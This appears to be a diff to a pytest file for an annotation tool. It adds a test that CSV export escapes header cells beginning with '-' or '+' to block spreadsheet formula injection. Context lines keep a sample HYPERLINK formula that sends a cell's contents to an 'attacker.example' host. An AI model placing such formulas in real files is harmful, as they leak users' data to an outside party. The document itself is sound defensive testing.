@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 
 from annotator.core import Project
+from annotator.core.export import export_labels_csv
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'
 NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
@@ -104,3 +105,24 @@ def test_importing_the_export_back_restores_every_cell_exactly(formula_project, 
                     == {(x.taxonomy, x.annotator, x.target, x.label) for x in before.labels.for_item(item_id)})
         assert after.notes.get("=1+2", "rift", "@mallory", "criterion:c1") == HYPERLINK
         assert after.notes.get("plain", "rift", "+eve", "item") == "-2 points for length; @here see above"
+
+
+def test_the_wide_header_is_neutralised_too(filled_project, tmp_path):
+    """Label ids may start with `-` or `+` (`-1`, `-sum`): as column names they are header cells."""
+    from annotator.core.taxonomy import load_taxonomy
+
+    spec = tmp_path / "signs.yaml"
+    spec.write_text("id: signs\nname: Signs\napplies_to: [rubric]\nlabels:\n"
+                    "  - {id: '-sum', name: Minus sum, target: item}\n"
+                    "  - {id: '+1', name: Plus one, target: item}\n"
+                    "  - {id: '+cmd', name: Plus command, target: item}\n", encoding="utf-8")
+    filled_project.taxonomies.add(load_taxonomy(spec))
+    filled_project.labels.add("r1", "signs", "alice", "item", "-sum")
+    filled_project.completion.set_done("r1", "signs", "alice")
+    out = tmp_path / "wide.csv"
+    export_labels_csv(filled_project, out, wide=True, taxonomy="signs")
+    with out.open(newline="", encoding="utf-8") as handle:
+        header, row = list(csv.reader(handle))
+    assert header[-3:] == ["'-sum", "+1", "'+cmd"]
+    assert row[-3:] == ["1", "0", "0"]
+    assert _risky_cells(out) == []
